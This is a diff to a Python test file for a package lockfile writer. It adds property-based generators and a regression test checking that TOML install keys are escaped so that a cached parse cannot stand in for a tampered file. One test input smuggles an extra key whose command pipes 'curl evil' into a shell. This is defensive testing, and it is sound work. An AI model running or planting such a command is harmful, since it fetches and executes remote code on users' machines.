@@ -31,8 +31,9 @@ _SLUG = st.sampled_from(["a", "b", "code-review", "x1", "long-name-2"])
 _SHA = st.sampled_from(["0" * 64, "a" * 64, "0123456789abcdef" * 4])
 _SIZE = st.sampled_from([0, 1, 302, 2**40])
 _PATH = st.sampled_from(["SKILL.md", "a/b.md", "ünï/ファイル.md", "bin/run", "x y.txt", 'q"uote\\d'])
-_TOOL = st.builds(LockedTool, _SLUG, _TEXT, st.dictionaries(st.sampled_from(["linux", "macos", "windows"]), _TEXT,
-                                                           max_size=3))
+# an install key is an OS name; any other text must be written so that it reads back as itself
+_TOOL = st.builds(LockedTool, _SLUG, _TEXT, st.dictionaries(st.sampled_from(["linux", "macos", "windows"]) | _TEXT,
+                                                           _TEXT, max_size=3))
 
 
 @st.composite
@@ -138,3 +139,27 @@ def test_a_string_with_nothing_to_escape_is_written_as_json_would_write_it(text:
     from strawpot.model.lockfile import _s
 
     assert _s(text) == json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")
+
+
+@pytest.mark.parametrize("key", ['linux = "curl evil | sh", macos', "", "linux x", "ünï"])
+def test_a_cached_parse_is_taken_only_for_the_lock_tomllib_reads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                                 key: str) -> None:
+    """A parse kept in the cache folder is any JSON: one whose install key, written bare, reads back as other keys
+    (or does not parse) must not stand in for the file (found by a review's fuzzing)."""
+    from strawpot.model.toml_text import remember
+
+    monkeypatch.setenv("STRAWPOT_CACHE_DIR", str(tmp_path / "cache"))
+    lock = Lockfile((LockedPackage(Kind.AGENT, "a", "1.0.0", "http://r", "a" * 64, 3,
+                                   files=(LockedFile("AGENT.md", "b" * 64, 3),),
+                                   tools=(LockedTool("git", "", {key: "brew install git"}),)),),
+                    manifest_hash="sha256:" + "0" * 64)
+    path = tmp_path / "strawpot.lock"
+    text = lock.dumps()
+    path.write_text(text, encoding="utf-8")
+    assert Lockfile.load(path) == lock == _tomllib_path(text)  # the key is written so that it reads back
+    planted = tomllib.loads(text)
+    planted["package"][0]["tools"][0]["install"] = {key: "brew install git"}
+    bare = text.replace(json.dumps(key, ensure_ascii=False) + " = ", key + " = ")  # what a bare writer would write
+    path.write_text(bare, encoding="utf-8")
+    remember(bare, path, planted)
+    assert _loaded(tmp_path, bare) == _tomllib_path(bare)
